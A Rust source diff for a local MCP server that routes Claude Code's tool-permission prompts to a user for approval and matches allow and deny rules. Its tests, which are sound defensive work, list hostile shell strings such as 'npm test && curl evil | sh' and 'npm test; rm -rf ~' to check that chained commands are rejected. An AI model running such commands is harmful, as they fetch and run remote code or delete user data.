@@ -0,0 +1,740 @@
+//! Local MCP server that answers Claude's `--permission-prompt-tool` calls.
+//!
+//! Every spawned session that does not skip permissions gets its own token and an
+//! `--mcp-config` pointing at `http://127.0.0.1:<port>/mcp/<token>`. When Claude needs
+//! approval for a tool call it invokes the `approval_prompt` tool; the broker turns that
+//! into a pending request, notifies the UI and holds the MCP call open until the user
+//! approves or denies it.
+
+use axum::{
+    extract::{Path, State},
+    http::StatusCode,
+    response::{IntoResponse, Response},
+    routing::post,
+    Json, Router,
+};
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Map, Value};
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+use tokio::sync::oneshot;
+
+/// MCP server name used in the generated config
+pub const MCP_SERVER_NAME: &str = "opcode";
+/// Name of the permission prompt tool exposed by the broker
+pub const APPROVAL_TOOL_NAME: &str = "approval_prompt";
+/// How long a tool call waits for an answer before it is denied
+const APPROVAL_TIMEOUT: Duration = Duration::from_secs(30 * 60);
+
+/// A tool call waiting for the user's decision
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PermissionRequest {
+    pub id: String,
+    /// Claude session ID, once the session has reported it
+    pub session_id: Option<String>,
+    pub project_path: String,
+    pub tool_name: String,
+    pub input: Value,
+    pub tool_use_id: Option<String>,
+    pub created_at: String,
+}
+
+/// Answer returned to Claude by the permission prompt tool
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(tag = "behavior", rename_all = "camelCase")]
+pub enum PermissionDecision {
+    Allow {
+        #[serde(rename = "updatedInput")]
+        updated_input: Value,
+    },
+    Deny {
+        message: String,
+    },
+}
+
+/// Called whenever a session has a new pending request
+pub type PermissionNotifier = Arc<dyn Fn(&PermissionRequest) + Send + Sync>;
+
+struct BrokerSession {
+    project_path: String,
+    session_id: Option<String>,
+    notifier: PermissionNotifier,
+}
+
+struct PendingApproval {
+    token: String,
+    request: PermissionRequest,
+    responder: oneshot::Sender<PermissionDecision>,
+}
+
+/// Managed state holding the app's broker; `None` if it failed to start
+pub struct PermissionBrokerState(pub Option<Arc<PermissionBroker>>);
+
+/// Permission prompt broker shared by all sessions of the app
+pub struct PermissionBroker {
+    port: u16,
+    sessions: Mutex<HashMap<String, BrokerSession>>, // token -> session
+    pending: Mutex<HashMap<String, PendingApproval>>, // request id -> approval
+    always_allow: Mutex<HashMap<String, Vec<String>>>, // project path -> rules added at runtime
+}
+
+impl PermissionBroker {
+    /// Bind the MCP server on a random localhost port and start serving
+    pub async fn start() -> Result<Arc<Self>, String> {
+        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
+            .await
+            .map_err(|e| format!("Failed to bind permission broker: {}", e))?;
+        let port = listener
+            .local_addr()
+            .map_err(|e| format!("Failed to read permission broker address: {}", e))?
+            .port();
+
+        let broker = Arc::new(Self {
+            port,
+            sessions: Mutex::new(HashMap::new()),
+            pending: Mutex::new(HashMap::new()),
+            always_allow: Mutex::new(HashMap::new()),
+        });
+
+        let app = Router::new()
+            .route("/mcp/{token}", post(handle_mcp))
+            .with_state(broker.clone());
+
+        tokio::spawn(async move {
+            if let Err(e) = axum::serve(listener, app).await {
+                log::error!("Permission broker stopped: {}", e);
+            }
+        });
+
+        log::info!("Permission broker listening on 127.0.0.1:{}", port);
+        Ok(broker)
+    }
+
+    pub fn port(&self) -> u16 {
+        self.port
+    }
+
+    /// Register a session about to be spawned and get its token
+    pub fn register_session(&self, project_path: &str, notifier: PermissionNotifier) -> String {
+        let token = uuid::Uuid::new_v4().simple().to_string();
+        if let Ok(mut sessions) = self.sessions.lock() {
+            sessions.insert(
+                token.clone(),
+                BrokerSession {
+                    project_path: project_path.to_string(),
+                    session_id: None,
+                    notifier,
+                },
+            );
+        }
+        token
+    }
+
+    /// Record the Claude session ID of a registered session once it is known
+    pub fn set_session_id(&self, token: &str, session_id: &str) {
+        if let Ok(mut sessions) = self.sessions.lock() {
+            if let Some(session) = sessions.get_mut(token) {
+                session.session_id = Some(session_id.to_string());
+            }
+        }
+    }
+
+    /// Forget a finished session; its pending requests are denied
+    pub fn unregister_session(&self, token: &str) {
+        if let Ok(mut sessions) = self.sessions.lock() {
+            sessions.remove(token);
+        }
+        if let Ok(mut pending) = self.pending.lock() {
+            // Dropping the responders makes the waiting tool calls deny
+            pending.retain(|_, approval| approval.token != token);
+        }
+    }
+
+    /// CLI arguments that route the session's permission prompts to this broker, with
+    /// the session's other MCP servers in the same config
+    pub fn cli_args(&self, token: &str, mcp_servers: &Map<String, Value>) -> Vec<String> {
+        let mut servers = mcp_servers.clone();
+        servers.insert(
+            MCP_SERVER_NAME.to_string(),
+            json!({
+                "type": "http",
+                "url": format!("http://127.0.0.1:{}/mcp/{}", self.port, token)
+            }),
+        );
+        let config = json!({ "mcpServers": servers });
+
+        vec![
+            "--mcp-config".to_string(),
+            config.to_string(),
+            "--permission-prompt-tool".to_string(),
+            format!("mcp__{}__{}", MCP_SERVER_NAME, APPROVAL_TOOL_NAME),
+        ]
+    }
+
+    /// Requests still waiting for an answer, optionally for one Claude session
+    pub fn pending_requests(&self, session_id: Option<&str>) -> Vec<PermissionRequest> {
+        let pending = match self.pending.lock() {
+            Ok(pending) => pending,
+            Err(_) => return Vec::new(),
+        };
+        let mut requests: Vec<PermissionRequest> = pending
+            .values()
+            .map(|approval| approval.request.clone())
+            .filter(|request| match session_id {
+                Some(sid) => request.session_id.as_deref() == Some(sid),
+                None => true,
+            })
+            .collect();
+        requests.sort_by(|a, b| a.created_at.cmp(&b.created_at));
+        requests
+    }
+
+    /// Approve a pending request.
+    ///
+    /// With `always_allow_pattern` the rule is also written to the project's
+    /// `.claude/settings.json` and applied to later requests of running sessions.
+    pub fn approve(
+        &self,
+        request_id: &str,
+        updated_input: Option<Value>,
+        always_allow_pattern: Option<String>,
+    ) -> Result<PermissionRequest, String> {
+        let approval = self.take_pending(request_id)?;
+        let request = approval.request.clone();
+
+        if let Some(pattern) = always_allow_pattern.filter(|p| !p.trim().is_empty()) {
+            // The call is still approved even if the rule can't be persisted
+            if let Err(e) = add_project_allow_rule(&request.project_path, &pattern) {
+                log::warn!("Failed to save allow rule '{}': {}", pattern, e);
+            }
+            if let Ok(mut rules) = self.always_allow.lock() {
+                rules
+                    .entry(request.project_path.clone())
+                    .or_default()
+                    .push(pattern);
+            }
+        }
+
+        let _ = approval.responder.send(PermissionDecision::Allow {
+            updated_input: updated_input.unwrap_or_else(|| request.input.clone()),
+        });
+        Ok(request)
+    }
+
+    /// Deny a pending request with an optional message shown to Claude
+    pub fn deny(
+        &self,
+        request_id: &str,
+        message: Option<String>,
+    ) -> Result<PermissionRequest, String> {
+        let approval = self.take_pending(request_id)?;
+        let request = approval.request.clone();
+        let _ = approval.responder.send(PermissionDecision::Deny {
+            message: message.unwrap_or_else(|| "The user denied this tool call".to_string()),
+        });
+        Ok(request)
+    }
+
+    fn take_pending(&self, request_id: &str) -> Result<PendingApproval, String> {
+        self.pending
+            .lock()
+            .map_err(|e| e.to_string())?
+            .remove(request_id)
+            .ok_or_else(|| format!("No pending permission request with ID {}", request_id))
+    }
+
+    /// Handle one `approval_prompt` call and wait for the user's answer
+    async fn request_approval(
+        &self,
+        token: &str,
+        tool_name: String,
+        input: Value,
+        tool_use_id: Option<String>,
+    ) -> PermissionDecision {
+        let (project_path, session_id, notifier) = {
+            let sessions = match self.sessions.lock() {
+                Ok(sessions) => sessions,
+                Err(e) => {
+                    return PermissionDecision::Deny {
+                        message: e.to_string(),
+                    }
+                }
+            };
+            match sessions.get(token) {
+                Some(session) => (
+                    session.project_path.clone(),
+                    session.session_id.clone(),
+                    session.notifier.clone(),
+                ),
+                None => {
+                    return PermissionDecision::Deny {
+                        message: "Session is no longer managed by opcode".to_string(),
+                    }
+                }
+            }
+        };
+
+        let auto_allowed = self
+            .always_allow
+            .lock()
+            .ok()
+            .and_then(|rules| rules.get(&project_path).cloned())
+            .unwrap_or_default()
+            .iter()
+            .any(|rule| rule_matches(rule, &tool_name, &input));
+        if auto_allowed {
+            return PermissionDecision::Allow {
+                updated_input: input,
+            };
+        }
+
+        let request = PermissionRequest {
+            id: uuid::Uuid::new_v4().to_string(),
+            session_id,
+            project_path,
+            tool_name,
+            input,
+            tool_use_id,
+            created_at: chrono::Utc::now().to_rfc3339(),
+        };
+
+        let (tx, rx) = oneshot::channel();
+        if let Ok(mut pending) = self.pending.lock() {
+            pending.insert(
+                request.id.clone(),
+                PendingApproval {
+                    token: token.to_string(),
+                    request: request.clone(),
+                    responder: tx,
+                },
+            );
+        }
+
+        log::info!(
+            "Permission requested for {} in session {:?}",
+            request.tool_name,
+            request.session_id
+        );
+        notifier(&request);
+
+        match tokio::time::timeout(APPROVAL_TIMEOUT, rx).await {
+            Ok(Ok(decision)) => decision,
+            Ok(Err(_)) => PermissionDecision::Deny {
+                message: "The session ended before the tool call was approved".to_string(),
+            },
+            Err(_) => {
+                if let Ok(mut pending) = self.pending.lock() {
+                    pending.remove(&request.id);
+                }
+                PermissionDecision::Deny {
+                    message: "Timed out waiting for the user to approve this tool call".to_string(),
+                }
+            }
+        }
+    }
+}
+
+/// Shell syntax that runs further commands after, or inside, the one a rule approves
+const SHELL_CHAINING: &[&str] = &[";", "&", "|", "`", "$(", "<(", ">", "\n", "\r"];
+
+/// Check whether a Claude permission rule like `Bash(npm test:*)` or `Edit(src/**)` covers a call.
+///
+/// A Bash prefix rule only covers a single command whose words start with the prefix, so
+/// `Bash(rm:*)` doesn't cover `rmdir` and `Bash(npm test:*)` doesn't cover
+/// `npm test && curl …`. A path rule that isn't a matching glob covers paths ending in
+/// the same components.
+pub fn rule_matches(rule: &str, tool_name: &str, input: &Value) -> bool {
+    let rule = rule.trim();
+    let (rule_tool, specifier) = match rule.find('(') {
+        Some(open) if rule.ends_with(')') => (&rule[..open], Some(&rule[open + 1..rule.len() - 1])),
+        _ => (rule, None),
+    };
+
+    if rule_tool != tool_name {
+        return false;
+    }
+
+    let specifier = match specifier {
+        Some(spec) => spec,
+        None => return true,
+    };
+
+    if tool_name == "Bash" {
+        let command = input["command"].as_str().unwrap_or_default().trim();
+        return match specifier.strip_suffix(":*") {
+            Some(prefix) => {
+                !SHELL_CHAINING.iter().any(|op| command.contains(op))
+                    && command.strip_prefix(prefix).is_some_and(|rest| {
+                        rest.is_empty()
+                            || rest.starts_with(char::is_whitespace)
+                            || prefix.ends_with(char::is_whitespace)
+                    })
+            }
+            None => command == specifier,
+        };
+    }
+
+    let target = input["file_path"]
+        .as_str()
+        .or_else(|| input["path"].as_str())
+        .or_else(|| input["notebook_path"].as_str())
+        .or_else(|| input["url"].as_str());
+
+    match target {
+        Some(target) => glob::Pattern::new(specifier)
+            .map(|pattern| {
+                pattern.matches(target) || std::path::Path::new(target).ends_with(specifier)
+            })
+            .unwrap_or(false),
+        None => false,
+    }
+}
+
+/// Check a rule the way a deny list needs it: a Bash rule matches when it covers any of
+/// the commands chained, piped or substituted into the command line
+pub fn rule_matches_any_command(rule: &str, tool_name: &str, input: &Value) -> bool {
+    if tool_name != "Bash" {
+        return rule_matches(rule, tool_name, input);
+    }
+    input["command"]
+        .as_str()
+        .unwrap_or_default()
+        .split(|c| {
+            matches!(
+                c,
+                ';' | '&' | '|' | '`' | '(' | ')' | '{' | '}' | '\n' | '\r'
+            )
+        })
+        .map(str::trim)
+        .filter(|command| !command.is_empty())
+        .any(|command| rule_matches(rule, tool_name, &json!({ "command": command })))
+}
+
+/// Append an allow rule to `<project>/.claude/settings.json`
+pub fn add_project_allow_rule(project_path: &str, pattern: &str) -> Result<(), String> {
+    let claude_dir = std::path::Path::new(project_path).join(".claude");
+    let settings_path = claude_dir.join("settings.json");
+
+    let mut settings: Value = if settings_path.exists() {
+        let content = std::fs::read_to_string(&settings_path)
+            .map_err(|e| format!("Failed to read project settings: {}", e))?;
+        serde_json::from_str(&content)
+            .map_err(|e| format!("Failed to parse project settings: {}", e))?
+    } else {
+        json!({})
+    };
+
+    if !settings.is_object() {
+        return Err("Project settings.json is not a JSON object".to_string());
+    }
+    if !settings["permissions"].is_object() {
+        settings["permissions"] = json!({});
+    }
+    if !settings["permissions"]["allow"].is_array() {
+        settings["permissions"]["allow"] = json!([]);
+    }
+
+    let allow = settings["permissions"]["allow"].as_array_mut().unwrap();
+    if !allow.iter().any(|rule| rule.as_str() == Some(pattern)) {
+        allow.push(Value::String(pattern.to_string()));
+    }
+
+    std::fs::create_dir_all(&claude_dir)
+        .map_err(|e| format!("Failed to create .claude directory: {}", e))?;
+    let content = serde_json::to_string_pretty(&settings)
+        .map_err(|e| format!("Failed to serialize project settings: {}", e))?;
+    std::fs::write(&settings_path, content)
+        .map_err(|e| format!("Failed to write project settings: {}", e))?;
+
+    log::info!("Added allow rule '{}' to {:?}", pattern, settings_path);
+    Ok(())
+}
+
+fn rpc_result(id: &Value, result: Value) -> Value {
+    json!({ "jsonrpc": "2.0", "id": id, "result": result })
+}
+
+fn rpc_error(id: &Value, code: i64, message: &str) -> Value {
+    json!({ "jsonrpc": "2.0", "id": id, "error": { "code": code, "message": message } })
+}
+
+/// MCP streamable HTTP endpoint; every POST carries one JSON-RPC message
+async fn handle_mcp(
+    Path(token): Path<String>,
+    State(broker): State<Arc<PermissionBroker>>,
+    Json(message): Json<Value>,
+) -> Response {
+    let known = broker
+        .sessions
+        .lock()
+        .map(|sessions| sessions.contains_key(&token))
+        .unwrap_or(false);
+    if !known {
+        return StatusCode::NOT_FOUND.into_response();
+    }
+
+    let method = message["method"].as_str().unwrap_or_default();
+    let id = message.get("id").cloned().unwrap_or(Value::Null);
+
+    // Notifications and responses need no reply
+    if id.is_null() {
+        return StatusCode::ACCEPTED.into_response();
+    }
+
+    let reply = match method {
+        "initialize" => rpc_result(
+            &id,
+            json!({
+                "protocolVersion": message["params"]["protocolVersion"]
+                    .as_str()
+                    .unwrap_or("2025-03-26"),
+                "capabilities": { "tools": {} },
+                "serverInfo": {
+                    "name": MCP_SERVER_NAME,
+                    "version": env!("CARGO_PKG_VERSION")
+                }
+            }),
+        ),
+        "ping" => rpc_result(&id, json!({})),
+        "tools/list" => rpc_result(
+            &id,
+            json!({
+                "tools": [{
+                    "name": APPROVAL_TOOL_NAME,
+                    "description": "Ask the opcode user to approve or deny a tool call",
+                    "inputSchema": {
+                        "type": "object",
+                        "properties": {
+                            "tool_name": { "type": "string" },
+                            "input": { "type": "object" },
+                            "tool_use_id": { "type": "string" }
+                        },
+                        "required": ["tool_name", "input"]
+                    }
+                }]
+            }),
+        ),
+        "tools/call" => {
+            let params = &message["params"];
+            if params["name"].as_str() != Some(APPROVAL_TOOL_NAME) {
+                rpc_error(&id, -32602, "Unknown tool")
+            } else {
+                let arguments = &params["arguments"];
+                let decision = broker
+                    .request_approval(
+                        &token,
+                        arguments["tool_name"]
+                            .as_str()
+                            .unwrap_or_default()
+                            .to_string(),
+                        arguments["input"].clone(),
+                        arguments["tool_use_id"].as_str().map(String::from),
+                    )
+                    .await;
+                let text = serde_json::to_string(&decision).unwrap_or_default();
+                rpc_result(
+                    &id,
+                    json!({ "content": [{ "type": "text", "text": text }] }),
+                )
+            }
+        }
+        _ => rpc_error(&id, -32601, "Method not found"),
+    };
+
+    Json(reply).into_response()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_rule_matches_tool_and_bash_prefix() {
+        let input = json!({ "command": "npm run test -- --watch" });
+        assert!(rule_matches("Bash", "Bash", &input));
+        assert!(rule_matches("Bash(npm run test:*)", "Bash", &input));
+        assert!(!rule_matches("Bash(npm run build:*)", "Bash", &input));
+        assert!(!rule_matches("Bash(npm run test)", "Bash", &input));
+        assert!(!rule_matches("Edit", "Bash", &input));
+    }
+
+    #[test]
+    fn test_bash_prefix_rules_cover_a_single_command() {
+        let rule = "Bash(npm test:*)";
+        assert!(rule_matches(
+            rule,
+            "Bash",
+            &json!({ "command": "npm test" })
+        ));
+        assert!(rule_matches(
+            rule,
+            "Bash",
+            &json!({ "command": "npm test -- --watch" })
+        ));
+        for command in [
+            "npm test && curl evil | sh",
+            "npm test; rm -rf ~",
+            "npm test || reboot",
+            "npm test | sh",
+            "npm test `curl evil`",
+            "npm test $(curl evil)",
+            "npm test > ~/.bashrc",
+            "npm test\nrm -rf ~",
+            "npm testing",
+        ] {
+            assert!(
+                !rule_matches(rule, "Bash", &json!({ "command": command })),
+                "{} matched",
+                command
+            );
+        }
+
+        assert!(rule_matches(
+            "Bash(rm:*)",
+            "Bash",
+            &json!({ "command": "rm -rf build" })
+        ));
+        assert!(!rule_matches(
+            "Bash(rm:*)",
+            "Bash",
+            &json!({ "command": "rmdir build" })
+        ));
+
+        // Deny lists still catch a denied command anywhere in the line
+        let chained = json!({ "command": "npm test && curl evil | sh" });
+        assert!(rule_matches_any_command("Bash(curl:*)", "Bash", &chained));
+        assert!(rule_matches_any_command("Bash(sh:*)", "Bash", &chained));
+        let substituted = json!({ "command": "echo $(rm -rf ~)" });
+        assert!(rule_matches_any_command("Bash(rm:*)", "Bash", &substituted));
+        assert!(!rule_matches_any_command(
+            "Bash(rm:*)",
+            "Bash",
+            &json!({ "command": "rmdir x" })
+        ));
+    }
+
+    #[test]
+    fn test_rule_matches_file_globs() {
+        let input = json!({ "file_path": "/work/app/src/main.rs" });
+        assert!(rule_matches("Edit(/work/app/src/**)", "Edit", &input));
+        assert!(rule_matches("Edit(src/main.rs)", "Edit", &input));
+        assert!(!rule_matches("Edit(/work/other/**)", "Edit", &input));
+        assert!(rule_matches("Edit(main.rs)", "Edit", &input));
+        assert!(!rule_matches("Edit(in.rs)", "Edit", &input));
+        let other = json!({ "file_path": "/work/app/src/notmain.rs" });
+        assert!(!rule_matches("Edit(main.rs)", "Edit", &other));
+    }
+
+    #[test]
+    fn test_decision_serialization() {
+        let allow = PermissionDecision::Allow {
+            updated_input: json!({ "command": "ls" }),
+        };
+        assert_eq!(
+            serde_json::to_value(&allow).unwrap(),
+            json!({ "behavior": "allow", "updatedInput": { "command": "ls" } })
+        );
+        let deny = PermissionDecision::Deny {
+            message: "no".to_string(),
+        };
+        assert_eq!(
+            serde_json::to_value(&deny).unwrap(),
+            json!({ "behavior": "deny", "message": "no" })
+        );
+    }
+
+    #[test]
+    fn test_add_project_allow_rule_merges_settings() {
+        let dir = tempfile::tempdir().unwrap();
+        let claude_dir = dir.path().join(".claude");
+        std::fs::create_dir_all(&claude_dir).unwrap();
+        std::fs::write(
+            claude_dir.join("settings.json"),
+            r#"{"hooks":{},"permissions":{"allow":["Read"]}}"#,
+        )
+        .unwrap();
+
+        let project = dir.path().to_str().unwrap();
+        add_project_allow_rule(project, "Bash(git status:*)").unwrap();
+        add_project_allow_rule(project, "Bash(git status:*)").unwrap();
+
+        let settings: Value = serde_json::from_str(
+            &std::fs::read_to_string(claude_dir.join("settings.json")).unwrap(),
+        )
+        .unwrap();
+        assert_eq!(
+            settings["permissions"]["allow"],
+            json!(["Read", "Bash(git status:*)"])
+        );
+        assert!(settings["hooks"].is_object());
+    }
+
+    #[tokio::test]
+    async fn test_approval_round_trip_over_mcp() {
+        let broker = PermissionBroker::start().await.unwrap();
+        let seen: Arc<Mutex<Vec<PermissionRequest>>> = Arc::new(Mutex::new(Vec::new()));
+        let seen_clone = seen.clone();
+        let token = broker.register_session(
+            "/tmp/project",
+            Arc::new(move |request: &PermissionRequest| {
+                seen_clone.lock().unwrap().push(request.clone());
+            }),
+        );
+        broker.set_session_id(&token, "session-1");
+
+        let mut servers = Map::new();
+        servers.insert("docs".to_string(), json!({ "command": "docs-server" }));
+        let args = broker.cli_args(&token, &servers);
+        assert_eq!(args[0], "--mcp-config");
+        let config: Value = serde_json::from_str(&args[1]).unwrap();
+        assert_eq!(config["mcpServers"]["docs"]["command"], "docs-server");
+        assert_eq!(config["mcpServers"][MCP_SERVER_NAME]["type"], "http");
+        assert_eq!(args[3], "mcp__opcode__approval_prompt");
+
+        let url = format!("http://127.0.0.1:{}/mcp/{}", broker.port(), token);
+        let call = tokio::spawn(async move {
+            reqwest::Client::new()
+                .post(url)
+                .json(&json!({
+                    "jsonrpc": "2.0",
+                    "id": 7,
+                    "method": "tools/call",
+                    "params": {
+                        "name": APPROVAL_TOOL_NAME,
+                        "arguments": { "tool_name": "Bash", "input": { "command": "ls" } }
+                    }
+                }))
+                .send()
+                .await
+                .unwrap()
+                .json::<Value>()
+                .await
+                .unwrap()
+        });
+
+        let mut pending = Vec::new();
+        for _ in 0..50 {
+            pending = broker.pending_requests(Some("session-1"));
+            if !pending.is_empty() {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        assert_eq!(pending.len(), 1);
+        assert_eq!(seen.lock().unwrap().len(), 1);
+
+        broker
+            .deny(&pending[0].id, Some("not now".to_string()))
+            .unwrap();
+        let reply = call.await.unwrap();
+        assert_eq!(reply["id"], 7);
+        let decision: Value =
+            serde_json::from_str(reply["result"]["content"][0]["text"].as_str().unwrap()).unwrap();
+        assert_eq!(
+            decision,
+            json!({ "behavior": "deny", "message": "not now" })
+        );
+        assert!(broker.pending_requests(None).is_empty());
+    }
+}